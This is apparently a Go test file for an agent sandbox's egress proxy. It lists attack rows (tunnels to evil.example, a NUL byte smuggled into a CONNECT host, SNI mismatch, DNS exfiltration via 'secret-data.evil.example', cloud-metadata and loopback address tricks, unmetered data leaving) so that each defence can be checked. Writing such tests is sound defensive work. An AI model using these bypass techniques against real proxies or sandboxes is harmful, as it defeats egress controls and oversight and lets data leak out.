package attack_test

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"choir.dev/choiros/contract"
	"choir.dev/choiros/internal/defence"
	"choir.dev/choiros/internal/egress"
)

// The proxy gets requests as a laxer HTTP server would parse them, so that its own checks are tried
// rather than Go's parser.

var egressRows = []Row{
	{Number: 1, Attack: "an agent that was talked into it opens a tunnel to a host that no rule names", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "evil.example:443", clientHello("evil.example"))
	}},
	{Number: 2, Attack: "a NUL byte in the host that CONNECT names", Defences: []defence.Name{defence.EgressCharacters, defence.EgressNames}, Run: func(t *testing.T) Verdict {
		return newExit(t, "tcp://*.allowed.example:443").tunnel(t, http.MethodConnect, "evil.example\x00.allowed.example:443", []byte("hello\n"))
	}},
	{Number: 3, Attack: "the TLS server name is not the host that CONNECT named", Defences: []defence.Name{defence.EgressServerName}, Run: func(t *testing.T) Verdict {
		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello("evil.example"))
	}},
	{Number: 3, Attack: "a ClientHello without a server name", Defences: []defence.Name{defence.EgressServerName}, Run: func(t *testing.T) Verdict {
		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello(""))
	}},
	{Number: 3, Attack: "a ClientHello that carries another, encrypted one", Defences: []defence.Name{defence.EgressHello}, Run: func(t *testing.T) Verdict {
		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello("allowed.example", 0xfe0d))
	}},
	{Number: 3, Attack: "something else than TLS through a tunnel that is for TLS", Defences: []defence.Name{defence.EgressTLS}, Run: func(t *testing.T) Verdict {
		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", []byte("GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
	}},
	{Number: 5, Attack: "data leave as a name that the host resolves before it refuses", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
		x := newExit(t, "allowed.example:443")
		v := x.tunnel(t, http.MethodConnect, "secret-data.evil.example:443", clientHello("secret-data.evil.example"))
		resolved, _ := x.seen()
		return Verdict{slices.Contains(resolved, "secret-data.evil.example"), v.Evidence}
	}},
	{Number: 6, Attack: "an allowed name resolves to the cloud's metadata service", Defences: []defence.Name{defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
		return toPrivate(t, "tcp://allowed.example:80", "allowed.example:80", "169.254.169.254")
	}},
	{Number: 6, Attack: "an allowed name resolves to loopback, as IPv4-mapped IPv6", Defences: []defence.Name{defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
		return toPrivate(t, "tcp://allowed.example:80", "allowed.example:80", "::ffff:127.0.0.1")
	}},
	{Number: 6, Attack: "loopback written as one number, for a resolver that reads it so", Defences: []defence.Name{defence.EgressSpelling, defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
		return toPrivate(t, "tcp://2130706433:80", "2130706433:80", "127.0.0.1")
	}},
	{Number: 8, Attack: "a request with another method than CONNECT gets a tunnel", Defences: []defence.Name{defence.EgressMethod}, Run: func(t *testing.T) Verdict {
		return newExit(t, "tcp://allowed.example:80").tunnel(t, http.MethodGet, "allowed.example:80", []byte("hello\n"))
	}},
	{Number: 9, Attack: "a policy that failed to load goes on with the rules of before", Defences: []defence.Name{defence.EgressFailed}, Run: func(t *testing.T) Verdict {
		x := newExit(t)
		x.serve(t, contract.BoxTask, egress.Policy{Rules: mustRules(t, "tcp://allowed.example:80"), Err: errors.New("the registries' file can't be read")})
		return x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
	}},
	{Number: 9, Attack: "a kind of box that has no network is given somebody's policy", Defences: []defence.Name{defence.EgressKinds}, Run: func(t *testing.T) Verdict {
		x := newExit(t)
		x.serve(t, contract.BoxDirector, egress.Policy{Rules: mustRules(t, "tcp://allowed.example:80")})
		return x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
	}},
	{Number: 10, Attack: "evilsuffix.example under a rule for *.suffix.example", Defences: []defence.Name{defence.EgressSuffix}, Run: func(t *testing.T) Verdict {
		return newExit(t, "tcp://*.suffix.example:443").tunnel(t, http.MethodConnect, "evilsuffix.example:443", []byte("hello\n"))
	}},
	{Number: 7, Attack: "what passes to an allowed host is on nobody's record", Defences: []defence.Name{defence.EgressMeter}, Run: func(t *testing.T) Verdict {
		x := newExit(t, "tcp://allowed.example:80")
		v := x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
		if !v.Worked {
			t.Fatal(v.Evidence)
		}
		sent := x.metered()
		return Verdict{sent == 0, fmt.Sprintf("%d bytes are on record", sent)}
	}},
	{Number: 7, Attack: "a tunnel goes on though nobody can record what passes it", Defences: []defence.Name{defence.EgressMeter}, Run: func(t *testing.T) Verdict {
		x := newExit(t, "tcp://allowed.example:80")
		x.unmeterable = errors.New("the log is full")
		x.then = func(conn net.Conn, r *bufio.Reader) Verdict {
			for end := time.Now().Add(time.Second); time.Now().Before(end); {
				if _, err := io.WriteString(conn, "more\n"); err != nil {
					return Verdict{false, err.Error()}
				}
				if _, err := r.ReadString('\n'); err != nil {
					return Verdict{false, err.Error()}
				}
			}
			return Verdict{true, "a second later it goes on"}
		}
		return x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
	}},
	{Number: 53, Attack: "a package is published to another host beside the registry that is allowed", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
		return newExit(t, "registry.example:443").tunnel(t, http.MethodConnect, "upload.registry.example:443", clientHello("upload.registry.example"))
	}},
	{Number: 53, Attack: "a commit is pushed to a git host that another task was granted", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
		x := newExit(t, "git.example:443") // the box of the task that was granted it, and then the other's
		x.serve(t, contract.BoxTask, egress.Policy{Profile: contract.EgressCustom, Rules: mustRules(t, "registry.example:443")})
		return x.tunnel(t, http.MethodConnect, "git.example:443", clientHello("git.example"))
	}},
	{Number: 53, Attack: "file contents leave in requests to an allowed registry, and nobody sees how much", Defences: []defence.Name{defence.EgressMeter}, Run: func(t *testing.T) Verdict {
		x := newExit(t, "tcp://registry.example:443")
		v := x.tunnel(t, http.MethodConnect, "registry.example:443", append(bytes.Repeat([]byte("file contents "), 1000), '\n'))
		if !v.Worked {
			t.Fatal(v.Evidence)
		}
		sent := x.metered()
		return Verdict{sent < 14000, fmt.Sprintf("%d bytes are on record", sent)}
	}},
	{Number: 10, Attack: "another port of an allowed host", Defences: []defence.Name{defence.EgressPorts}, Run: func(t *testing.T) Verdict {
		return newExit(t, "tcp://allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:22", []byte("hello\n"))
	}},
}

func mustRules(t *testing.T, texts ...string) []egress.Rule {
	t.Helper()
	parsed, err := egress.ParseRules(texts)
	if err != nil {
		t.Fatal(err)
	}
	return parsed
}

// toPrivate requests a name that the resolver turns into addr.
func toPrivate(t *testing.T, rule, target, addr string) Verdict {
	t.Helper()
	if _, err := egress.ParseRule(rule); err != nil {
		return Verdict{false, err.Error()}
	}
	x := newExit(t, rule)
	x.answers = func(string, int) []netip.Addr { return []netip.Addr{netip.MustParseAddr(addr)} }
	return x.tunnel(t, http.MethodConnect, target, []byte("hello\n"))
}

// tunnel requests a tunnel and sends first through it. The attack works if the far end echoes it.
func (x *exit) tunnel(t *testing.T, method, target string, first []byte) Verdict {
	t.Helper()
	near, far := net.Pipe()
	defer near.Close()
	if err := near.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		t.Fatal(err)
	}
	w := &answerer{conn: far, header: http.Header{}}
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer far.Close()
		x.handler.ServeHTTP(w, &http.Request{Method: method, RequestURI: target, Host: target, URL: &url.URL{Host: target}, Header: http.Header{}})
	}()
	defer func() { _ = near.Close(); <-done }()
	r := bufio.NewReader(near)
	head, err := r.ReadString('\n')
	if err != nil {
		<-done
		return Verdict{false, strings.TrimSpace(w.said.String())}
	}
	if _, err := r.ReadString('\n'); err != nil {
		return Verdict{false, head}
	}
	if _, err := near.Write(first); err != nil {
		return Verdict{false, err.Error()}
	}
	got := make([]byte, len(first))
	if _, err := io.ReadFull(r, got); err != nil || !bytes.Equal(got, first) {
		return Verdict{false, "nothing came back through the tunnel"}
	}
	if x.then != nil {
		return x.then(near, r)
	}
	_, dialled := x.seen()
	return Verdict{true, "the far end had it, dialled at " + strings.Join(dialled, ", ")}
}

// metered returns how many bytes sent by boxes are recorded.
func (x *exit) metered() (n int64) {
	x.mu.Lock()
	defer x.mu.Unlock()
	for _, tr := range x.traffic {
		n = max(n, tr.Sent)
	}
	return n
}

// answerer is a ResponseWriter whose connection can be hijacked.
type answerer struct {
	conn   net.Conn
	header http.Header
	said   bytes.Buffer
}

func (w *answerer) Header() http.Header         { return w.header }
func (w *answerer) WriteHeader(int)             {}
func (w *answerer) Write(b []byte) (int, error) { return w.said.Write(b) }
func (w *answerer) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	return w.conn, bufio.NewReadWriter(bufio.NewReader(w.conn), bufio.NewWriter(w.conn)), nil
}

// clientHello returns a ClientHello in one record, with a server name unless name is empty, and
// with further empty extensions.
func clientHello(name string, extensions ...uint16) []byte {
	vector := func(width int, b []byte) []byte {
		n := binary.BigEndian.AppendUint32(nil, uint32(len(b)))
		return append(n[4-width:], b...)
	}
	var ext []byte
	add := func(kind uint16, b []byte) { ext = append(binary.BigEndian.AppendUint16(ext, kind), vector(2, b)...) }
	if name != "" {
		add(0, vector(2, append([]byte{0}, vector(2, []byte(name))...)))
	}
	for _, kind := range extensions {
		add(kind, nil)
	}
	add(43, []byte{2, 3, 4}) // supported_versions
	body := append([]byte{3, 3}, make([]byte, 32)...)
	body = append(body, 0)                 // session
	body = append(body, 0, 2, 0x13, 1)     // cipher suites
	body = append(body, 1, 0)              // compression
	body = append(body, vector(2, ext)...) // extensions
	msg := append([]byte{1}, vector(3, body)...)
	return append([]byte{22, 3, 1}, vector(2, msg)...)
}
